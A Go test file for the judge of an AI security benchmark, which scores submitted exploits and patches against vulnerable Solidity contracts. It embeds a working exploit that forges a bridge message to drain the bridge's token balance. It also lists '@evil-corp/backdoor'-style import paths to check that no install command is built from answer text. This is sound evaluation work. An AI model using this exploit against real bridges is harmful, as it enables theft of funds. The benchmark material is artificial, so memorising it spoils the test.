package judge_test

import (
	"errors"
	"strings"
	"testing"

	"assay/internal/bench"
	"assay/internal/core/suite"
	"assay/internal/proof/judge"
	"assay/internal/proof/solc"
	"assay/internal/test/solctest"
	"assay/suites"
)

func blockbench(t testing.TB) *suite.Suite {
	t.Helper()
	list, problems, err := suite.Load(suites.FS, suite.Blockbench, "", "suites/blockbench")
	if err != nil || len(problems) > 0 {
		t.Fatal(err, problems)
	}
	return list[0]
}

func variant(t testing.TB, s *suite.Suite, key string) *bench.Variant {
	t.Helper()
	v, ok := s.Variant(key)
	if !ok {
		t.Fatalf("no variant %s", key)
	}
	return v
}

const sample = "blockbench/tc/bridge-replica"

// attack delivers a forged message; drain is the part that makes the profit.
const attack = `pragma solidity 0.8.30;
import "./Replica.sol";
interface World { function target() external view returns (address); function asset() external view returns (address); function deployed(string calldata) external view returns (address); }
interface Purse { function balanceOf(address) external view returns (uint256); }
interface Bridge { function remoteBridge() external view returns (address); }
contract Attacker {
    function step(uint256, address w) external returns (uint256) {
        Replica replica = Replica(World(w).target());
        Bridge bridge = Bridge(World(w).deployed("TokenBridge"));
        address token = World(w).asset();
        replica.deliver(Messages.Message(replica.remoteDomain(), bytes32(uint256(uint160(bridge.remoteBridge()))), 0,
            replica.localDomain(), address(bridge), abi.encode(token, address(this), Purse(token).balanceOf(address(bridge)))));
        return 0;
    }
}`

func exploit(text string) bench.Answer {
	if text == "" {
		return bench.Answer{Kind: bench.AnswerExploit, Verdict: bench.Safe}
	}
	return bench.Answer{Kind: bench.AnswerExploit, Verdict: bench.Vulnerable, Findings: []bench.Finding{{Attack: text}}}
}

func patch(text string) bench.Answer {
	return bench.Answer{Kind: bench.AnswerPatch, Verdict: bench.Vulnerable, Findings: []bench.Finding{{Fix: text}}}
}

func TestJudge(t *testing.T) {
	st := blockbench(t)
	j := judge.New(solctest.New(t), []*suite.Suite{st})
	v, twin := variant(t, st, sample), variant(t, st, sample+"+fixed")
	changed := *v
	changed.Key, changed.Chain, changed.Seed, changed.Proof = v.Key+"~x@1", "x", 1, bench.Unproved
	foreign := *v
	foreign.Key = "mine/tc/bridge-replica"
	const idle = "pragma solidity 0.8.30; contract Attacker { function step(uint256, address) external " +
		"returns (uint256) { return 0; } }"
	one, zero := 1.0, 0.0
	for _, k := range []struct {
		name     string
		v        *bench.Variant
		a        bench.Answer
		strict   bench.Decision
		class    bench.FindingClass
		ava, fsv *float64
		reason   string
		unscored bool
	}{
		{"an attack that works", v, exploit(attack), bench.Hit, bench.TargetMatch, &one, nil,
			"the repaired source resists it", false},
		{"one that does nothing", v, exploit(idle), bench.Miss, bench.Hallucinated, &zero, nil, "impact not reached", false},
		{"one that does not compile", v, exploit("contract {"), bench.Miss, bench.Hallucinated, &zero, nil, "Attacker.sol",
			false},
		{"none", v, exploit(""), bench.Miss, "", &zero, nil, "nothing to attack", false},
		{"an attack on the twin", twin, exploit(attack), "", bench.Hallucinated, nil, nil, "does not work", false},
		{"none on the twin", twin, exploit(""), "", "", nil, nil, "nothing to attack", false},
		{"the twin as a repair", v, patch(twin.Task.Files[0].Text), bench.Hit, bench.TargetMatch, nil, &one, "honest use",
			false},
		{"no change as a repair", v, patch(v.Task.Files[0].Text), bench.Miss, bench.Mischaracterized, nil, &zero, "exploit",
			false},
		{"a repair that is no contract", v, patch("no"), bench.Miss, bench.Mischaracterized, nil, &zero, "does not compile",
			false},
		{"a repair of the twin", twin, patch("no"), "", bench.Hallucinated, nil, nil, "not broken", false},
		{"a variant that nobody vouches for", &changed, exploit(attack), bench.Unscored, "", nil, nil,
			"no stored evidence vouches", true},
		{"a sample of another suite", &foreign, exploit(attack), bench.Unscored, "", nil, nil, "no proof", true},
	} {
		got, err := j.Judge(t.Context(), k.v, k.a)
		if err != nil {
			t.Fatal(err)
		}
		d := got.Verdict
		class := bench.FindingClass("")
		if len(d.Findings) > 0 {
			class = d.Findings[0].Class
		}
		if d.Strict != k.strict || class != k.class || !equal(d.AVA, k.ava) || !equal(d.FSV, k.fsv) ||
			d.Unscored != k.unscored || !strings.Contains(d.Reason, k.reason) || d.Judge != judge.Name {
			t.Errorf("%s: %+v", k.name, d)
		}
		if !got.Asked {
			continue
		}
		// The result is stored, and can be read again without a compiler.
		again, ok := judge.New(nil, nil).Read(k.v, k.a, got.Response)
		if !ok || again.Strict != d.Strict || again.Reason != d.Reason || !equal(again.AVA, d.AVA) ||
			!equal(again.FSV, d.FSV) {
			t.Errorf("%s: read again as %+v", k.name, again)
		}
	}
}

func equal(a, b *float64) bool { return a == b || a != nil && b != nil && *a == *b }

// Without compilers there is no decision: a missing tool says nothing about the code.
func TestMissingCompiler(t *testing.T) {
	st := blockbench(t)
	c, err := solc.New(solc.Options{Dir: t.TempDir(), CacheDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	_, err = judge.New(c, []*suite.Suite{st}).Judge(t.Context(), variant(t, st, sample),
		exploit(attack))
	var missing *solc.MissingError
	if !errors.As(err, &missing) {
		t.Errorf("%v", err)
	}
	if _, err := judge.New(nil, []*suite.Suite{st}).Judge(t.Context(), variant(t, st, sample),
		exploit(attack)); err == nil {
		t.Error("a judge without a compiler executes")
	}
}

// A library that only an answer imports is not missing on this machine: it is a mistake of the answer, and no
// command to install it is made from the text.
func TestImportedPackage(t *testing.T) {
	s := blockbench(t)
	j := judge.New(solctest.New(t), []*suite.Suite{s})
	v := variant(t, s, sample)
	for _, path := range []string{"@evil-corp/backdoor@1.0.0/x.sol", "./@evil-corp/backdoor@1.0.0/x.sol",
		"@openzeppelin/contracts@9.9.9/x.sol", "npm:evil", "@evil-corp/backdoor/x.sol"} {
		for kind, a := range map[string]bench.Answer{
			"attack": exploit(strings.Replace(attack, "./Replica.sol\";", "./Replica.sol\"; import '"+path+"';", 1)),
			"repair": patch("import \"" + path + "\";\n" + v.Task.Files[0].Text),
		} {
			got, err := j.Judge(t.Context(), v, a)
			if err != nil || got.Verdict.Strict != bench.Miss || strings.Contains(got.Verdict.Reason, "install") {
				t.Errorf("%s with %s: %q, %q, error %v", kind, path, got.Verdict.Strict, got.Verdict.Reason, err)
			}
		}
	}
}

// Everything that can change a decision changes the question. A review has no question.
func TestQuestion(t *testing.T) {
	st := blockbench(t)
	j := judge.New(nil, nil)
	v := variant(t, st, sample)
	if _, ok := j.Question(v, bench.Answer{Verdict: bench.Vulnerable, Findings: []bench.Finding{{Attack: attack}}}); ok {
		t.Error("a review is executed")
	}
	seen := map[string]bool{}
	for _, a := range []bench.Answer{exploit(attack), exploit(attack + " "), exploit(""), patch(attack)} {
		for _, v := range []*bench.Variant{v, variant(t, st, sample+"+fixed")} {
			q, ok := j.Question(v, a)
			if !ok || seen[q] {
				t.Errorf("%s: %q %v", v.Key, q, ok)
			}
			seen[q] = true
		}
	}
	a := exploit(attack)
	if _, ok := j.Read(v, a, bench.Response{Text: "{}"}); ok {
		t.Error("something is read from nothing")
	}
}

// A handler that a model wrote is not executed without a box; a judge that reads finds what another one executed.
func TestHandlersNeedBox(t *testing.T) {
	v := &bench.Variant{Key: "x", Truth: bench.Vulnerable, Task: bench.Task{Language: "python",
		Files: []bench.File{{Path: "x.py", Text: "x"}}}}
	j := judge.New(solctest.New(t), nil)
	if _, ok := j.Question(v, patch("x")); ok {
		t.Error("it is in the scope of a judge without a box")
	}
	if got, err := j.Judge(t.Context(), v, patch("x")); err != nil || !got.Verdict.Unscored {
		t.Errorf("it is judged without a box: %+v, %v", got, err)
	}
	if _, ok := judge.New(nil, nil).Question(v, patch("x")); !ok {
		t.Error("a judge that reads cannot find its judgement")
	}
}
